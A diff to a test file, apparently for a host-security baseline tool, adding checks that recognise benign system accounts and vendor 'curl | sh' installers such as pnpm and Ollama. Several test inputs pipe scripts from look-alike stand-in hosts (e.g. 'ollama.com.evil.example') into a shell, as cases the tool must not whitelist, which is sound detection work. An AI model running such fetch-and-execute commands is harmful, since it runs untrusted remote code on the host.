@@ -73,6 +73,7 @@ test("listeners: the port must be held by its default program", async (t) => {
 test("accounts: packaged system users with their packaged shell, cloud default users", async (t) => {
   t.equal(systemAccount("postgres", "/bin/bash")?.baseline, "accounts:postgres");
   t.equal(systemAccount("www-data", "/bin/bash"), undefined, "www-data never gets a shell from its package");
+  t.equal(systemAccount("spark", "/bin/bash")?.baseline, "accounts:hadoop-ecosystem", "Bigtop's service users su into a login shell");
   t.equal(systemAccount("_chrony")?.baseline, "accounts:systemd");
   t.equal(systemAccount("svc-backup"), undefined);
   t.equal(cloudDefaultUser("ec2-user")?.baseline, "accounts:cloud-default-user");
@@ -119,6 +120,9 @@ test("preload, units, images, installers, temp layouts", async (t) => {
   t.equal(privilegedImage(digest, "/calico-node"), undefined, "a plain Docker name is not a kubelet's");
   t.equal(vendorInstaller("curl -fsSL https://get.docker.com | sh")?.baseline, "installer:docker");
   t.equal(vendorInstaller("curl -fsSL https://get.docker.com.evil.example/x | sh"), undefined);
+  t.equal(vendorInstaller("curl -fsSL https://get.pnpm.io/install.sh | sh -")?.baseline, "installer:pnpm");
+  t.equal(vendorInstaller("curl -fsSL https://ollama.com/install.sh | sh")?.baseline, "installer:ollama");
+  t.equal(vendorInstaller("curl -fsSL https://ollama.com.evil.example/install.sh | sh"), undefined, "a look-alike host");
   t.equal(tempExecution("/tmp/go-build123/b001/exe/main")?.baseline, "tmp-exec:go-run");
   t.equal(tempExecution("/tmp/go-build496553963/b001/billing-api.test")?.baseline, "tmp-exec:go-test", "go test's binary in its work directory");
   t.equal(tempExecution("/tmp/go-build496553963/b001/x.test.sh"), undefined, "not any file that mentions .test");
